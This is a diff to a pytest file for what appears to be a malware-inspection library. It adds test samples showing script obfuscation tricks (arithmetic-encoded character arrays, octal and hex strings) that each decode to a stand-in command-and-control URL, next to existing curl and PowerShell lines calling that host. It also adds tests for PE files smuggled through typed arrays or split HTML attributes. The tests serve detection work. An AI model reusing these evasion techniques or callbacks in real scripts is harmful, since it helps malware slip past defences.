@@ -11,7 +11,7 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 from sekisho_core.vocabulary import Reading
-from sekisho_inspection import batch, ciphers, entities, script_encoder
+from sekisho_inspection import batch, ciphers, entities, filetype, script_encoder
 from sekisho_inspection.carving import carved
 from sekisho_inspection.script_layers import layers
 from sekisho_inspection.script_tokens import Language, language_of, tokens
@@ -46,6 +46,8 @@ JAVASCRIPT = {
     "object": "o={a:'http://c2.',b:'malware.example/gate'};go(o.a+o['b'])",
     "hexadecimal": f"go(Buffer.from('{URL.encode().hex()}','hex').toString())",
     "ROT13": f"go('{codecs.encode(URL, 'rot13')}'.replace(/[a-z]/g,function(c){{return String.fromCharCode(c)}}))",
+    "multiplied": f"a=[{','.join(str(3 * ord(one)) for one in URL)}];for(i in a)o+=String.fromCharCode(a[i]/3)",
+    "added": f"a=[{','.join(str(1000 + ord(one)) for one in URL)}];for(i in a)o+=String.fromCharCode(a[i]-1000)",
     "twice": f"eval(atob('{base64.b64encode(f'go(atob({_B!r}))'.encode()).decode()}'))",
 }
 OTHER: dict[str, str] = {
@@ -69,6 +71,8 @@ OTHER: dict[str, str] = {
     "caret": "p^ower^shell -c cu^rl ht^tp://c2.mal^ware.example/gate",
     "instead": "set x=hXXp://c2.malware.example/gate\nstart %x:XX=tt%",
     "echo": "@echo off\n" + "".join(f"echo {_B[at : at + 10]}>>a.b64\n" for at in range(0, len(_B), 10)),
+    "octal": "$'" + "".join(f"\\{ord(one):o}" for one in URL) + "'",
+    "short hexadecimal": f'x = "{URL.encode().hex()}"\nExecute unhex(x)',
     "sh": "a=http://c2.\nb=malware.example/gate\ncurl $a$b",
 }
 
@@ -201,6 +205,22 @@ def test_page_without_a_file(read: Read, attach: Attach) -> None:
     font = base64.b64encode(b"wOF2" + bytes(range(256)) * 9).decode()
     page = f"<style>@font-face{{src:url(data:font/woff2;base64,{font})}}</style><script>{script}</script>"
     assert read(attach("x", ("a.html", page.encode()))).incomplete == ()
+
+
+@pytest.mark.parametrize("size", [2, 4])
+def test_files_of_words(size: int) -> None:
+    """B26: a file in numbers of two or four bytes each is found."""
+    plain = program()
+    words = [str(int.from_bytes(plain[at : at + size], "little")) for at in range(0, len(plain), size)]
+    assert plain in built(f"new Blob([new Uint32Array([{','.join(words)}])])").files
+
+
+def test_file_in_many_short_attributes(read: Read, attach: Attach) -> None:
+    """B26: a file whose pieces stand in the attributes of many elements is put together."""
+    coded = base64.b64encode(program()).decode()
+    pieces = "".join(f"<i data-v='{coded[at : at + 20]}'></i>" for at in range(0, len(coded), 20))
+    reading = read(attach("x", ("a.html", f"{pieces}<script>new Blob([atob(all())])</script>".encode())))
+    assert [part.type for part in reading.parts if part.origin.reading == "script"] == [filetype.PE]
 
 
 def test_first_pieces_are_no_files() -> None:
